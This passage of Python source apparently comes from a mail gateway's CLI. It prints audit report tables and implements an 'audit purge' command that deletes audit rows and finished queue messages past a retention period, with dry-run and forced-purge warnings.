    for key, title in _REPORT_TABLES:
        counts: dict[str, int] = report.get(key) or {}
        apart_key, apart_label = _APART.get(key, ("", ""))
        apart = report.get(apart_key) if apart_key else None
        out.write(f"\n{title}\n")
        if not counts and not apart:
            out.write("  (none)\n")
            continue
        # Senders and organisations as they read (gateway.audit.display).
        items = [(visible(k or "-"), c) for k, c in list(counts.items())[:top]]
        if apart:
            items.append((apart_label, int(apart)))
        width = min(50, max(len(k) for k, _ in items))
        for name, count in items:
            out.write(f"  {name[:50]:<{width}}  {count:>8}\n")
        if len(counts) > top:
            out.write(f"  ... {len(counts) - top} more\n")
    return out.getvalue().rstrip()


# -- purge ----------------------------------------------------------------------------------------


def _purge(args: argparse.Namespace) -> int:
    settings = settings_or_exit(args)
    trail = AuditTrail(_keys(settings), settings.audit.checkpoint_every)
    result: PurgeResult = _with_engine(
        settings,
        lambda engine: purge(engine, trail, settings.audit.retention, dry_run=args.dry_run,
                             also=remove_finished, force=args.force),
    )
    if result.problems:
        print(f"warning: the trail does not verify ({len(result.problems)} problem(s)); "
              f"{'would purge' if result.dry_run else 'purging'} all the same (--force), "
              "and the purge's audit event says so:",
              file=sys.stderr)
        for problem in result.problems:
            print(f"  {problem}", file=sys.stderr)
    before = result.cutoff.strftime("%Y-%m-%d %H:%M UTC")
    if not result.removed_anything:
        print(f"nothing to purge: no audit rows or finished messages before {before} "
              f"(retention {settings.audit.retention.days} days)")
        return 0
    trail_rows = f"{result.records} record(s) and {result.events} event(s)"
    if result.dry_run:
        print(f"would remove {trail_rows} received before {before}"
              + (f" (chain cut at seq {result.cut_seq})" if result.records or result.events
                 else ""))
    elif result.records or result.events:
        print(f"removed {trail_rows} received before {before}; chain cut at seq "
              f"{result.cut_seq} (checkpoint #{result.checkpoint_id})")
    else:
        print(f"no audit rows before {before} left to remove")
    other = ", ".join(f"{count} {_ELSEWHERE[table]}"
                      for table, count in result.elsewhere.items() if count)
    if other:
        print(f"{'would remove' if result.dry_run else 'removed'} the finished messages' "
              f"other rows: {other}")
    return 0


# The tables gateway.operate.retention clears, as `audit purge` names them.
_ELSEWHERE = {
    "queue_messages": "queue message(s)",
    "queue_recipients": "queue recipient row(s)",
    "receipt_requests": "receipt request(s)",
    "held_passwords": "held-password row(s)",
}
